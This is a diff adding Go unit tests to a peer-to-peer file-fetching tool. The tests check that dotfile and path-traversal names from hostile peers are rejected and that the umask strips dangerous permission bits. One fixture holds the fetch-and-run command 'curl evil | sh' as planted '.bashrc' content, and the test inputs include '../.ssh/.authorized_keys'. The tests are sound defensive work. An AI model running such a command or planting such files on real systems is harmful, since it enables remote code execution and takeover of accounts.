@@ -5,6 +5,7 @@ import (
 	"context"
 	"os"
 	"path/filepath"
+	"runtime"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -41,6 +42,14 @@ func TestResolveGetTarget(t *testing.T) {
 		{"slash name", sub, "/", "", true},
 		{"control char", sub, "a\nb", "", true},
 		{"trailing slash name", sub, "dir/name/", filepath.Join(sub, "name"), false},
+		// Hostile peers, point 14: no dotfile lands in a folder unless
+		// the user names the file.
+		{"dotfile in cwd", "", ".bashrc", "", true},
+		{"dotfile into dir", sub, ".profile", "", true},
+		{"dotfile behind a path", sub, "../.ssh/.authorized_keys", "", true},
+		{"three dots", sub, "...", "", true},
+		{"explicit file takes a dotfile", filepath.Join(sub, "bashrc"), ".bashrc", filepath.Join(sub, "bashrc"), false},
+		{"dot inside name", sub, "a.b", filepath.Join(sub, "a.b"), false},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -157,6 +166,56 @@ func TestFileMode(t *testing.T) {
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			require.Equal(t, tt.want, fileMode(tt.in))
+		})
+	}
+}
+
+// TestRunGetRefusesDotfile (hostile peers, point 14): a manifest naming
+// ".bashrc" writes nothing into the current directory, with one line of
+// bad input that points at -o; with -o NAME the file is saved.
+func TestRunGetRefusesDotfile(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	b := newFakeFiles(".bashrc", 0o644, "curl evil | sh\n")
+	err := runGet(context.Background(), b, getOpts{}, "bafkfake", &bytes.Buffer{})
+	require.Equal(t, exitBadInput, exitCode(err), "err: %v", err)
+	require.Contains(t, err.Error(), "starts with a dot")
+	require.Contains(t, err.Error(), "-o")
+	require.NotContains(t, err.Error(), "\n")
+	require.Empty(t, dirNames(t, dir))
+
+	var out bytes.Buffer
+	require.NoError(t, runGet(context.Background(), b, getOpts{output: "bashrc"}, "bafkfake", &out))
+	require.Equal(t, []string{"bashrc"}, dirNames(t, dir))
+	require.Equal(t, "saved bashrc\n", out.String())
+}
+
+// TestRunGetAppliesUmask (hostile peers, point 14): the recorded mode is
+// masked by the umask, and setuid, setgid and sticky never reach the disk.
+func TestRunGetAppliesUmask(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("no permission bits on Windows")
+	}
+	tests := []struct {
+		name  string
+		mode  uint32
+		umask os.FileMode
+		want  os.FileMode
+	}{
+		{"0777 under 022", 0o777, 0o022, 0o755},
+		{"0777 under 077", 0o777, 0o077, 0o700},
+		{"0640 under 027", 0o640, 0o027, 0o640},
+		{"setuid setgid sticky under 022", uint32(os.ModeSetuid|os.ModeSetgid|os.ModeSticky) | 0o777, 0o022, 0o755},
+		{"0777 under no umask", 0o777, 0, 0o777},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			b := newFakeFiles("tool", tt.mode, "#!/bin/sh\n")
+			require.NoError(t, runGet(context.Background(), b, getOpts{output: dir, umask: tt.umask}, "bafkfake", &bytes.Buffer{}))
+			fi, err := os.Stat(filepath.Join(dir, "tool"))
+			require.NoError(t, err)
+			require.Equal(t, tt.want, fi.Mode()&(os.ModePerm|os.ModeSetuid|os.ModeSetgid|os.ModeSticky))
 		})
 	}
 }
